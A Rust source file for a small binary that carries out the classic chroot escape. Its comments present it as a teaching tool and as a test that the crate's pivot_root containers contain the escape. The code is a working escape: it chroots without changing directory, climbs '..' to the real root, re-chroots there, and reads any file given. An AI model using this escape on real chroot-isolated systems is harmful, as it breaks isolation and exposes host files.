//! The classic chroot escape, kept as a teaching tool and a test.
//!
//! `chroot(dir)` changes where `/` resolves for this process, and nothing
//! else: the working directory stays where it was, and the host's root is
//! still mounted. So a process with `CAP_SYS_CHROOT` inside a chroot can
//! chroot *again* into a subdirectory without entering it — now its working
//! directory is outside its root, where `..` is not stopped at `/` — climb
//! up with `chdir("..")` to the real root, and `chroot(".")` there.
//!
//! Usage: `minidock-chroot-escape FILE` — escapes, then prints FILE.
//! Under `pivot_root` (this crate's containers) the climb ends at the
//! container's own `/`, because the host's root is no longer mounted.

use std::process::ExitCode;

fn main() -> ExitCode {
    let Some(file) = std::env::args().nth(1) else {
        eprintln!("usage: minidock-chroot-escape FILE");
        return ExitCode::from(2);
    };
    match escape_and_read(&file) {
        Ok(text) => {
            print!("{text}");
            ExitCode::SUCCESS
        }
        Err(e) => {
            eprintln!("minidock-chroot-escape: {e}");
            ExitCode::FAILURE
        }
    }
}

fn escape_and_read(file: &str) -> std::io::Result<String> {
    let dir = "minidock-escape";
    match std::fs::create_dir(dir) {
        Err(e) if e.kind() != std::io::ErrorKind::AlreadyExists => return Err(e),
        _ => {}
    }
    // chroot into the subdirectory, but do NOT chdir into it.
    std::os::unix::fs::chroot(dir)?;
    // Our cwd is now outside our root: ".." is never clamped at "/".
    for _ in 0..64 {
        std::env::set_current_dir("..")?;
    }
    std::os::unix::fs::chroot(".")?;
    std::fs::read_to_string(file)
}
